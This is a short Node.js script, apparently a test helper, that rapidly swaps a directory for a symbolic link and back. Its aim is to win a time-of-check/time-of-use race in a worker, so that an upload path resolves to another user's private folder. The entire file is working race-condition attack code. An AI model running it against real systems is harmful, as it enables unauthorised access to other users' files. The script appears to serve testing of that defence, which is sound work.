// Swaps a directory for a symbolic link and back, as fast as it can, until its parent closes stdin:
// an attacker racing the worker between a check of the path and the open. Argument 1 is the
// directory (uploads/team), argument 2 the link's target (another user's private folder).
import * as fs from 'node:fs';
import { setImmediate } from 'node:timers';

const [directory, target] = process.argv.slice(2);
const aside = `${directory}.real`;
const staged = `${directory}.link`;
let running = true;
process.stdin.on('end', () => {
  running = false;
});
process.stdin.resume();
fs.symlinkSync(target, staged);
process.stdout.write('flipping\n');
let flips = 0;
const flip = () => {
  for (let n = 0; n < 200 && running; n += 1) {
    fs.renameSync(directory, aside);
    fs.renameSync(staged, directory);
    fs.renameSync(directory, staged);
    fs.renameSync(aside, directory);
    flips += 1;
  }
  if (running) setImmediate(flip);
  else process.stdout.write(`${JSON.stringify({ flips })}\n`);
};
flip();
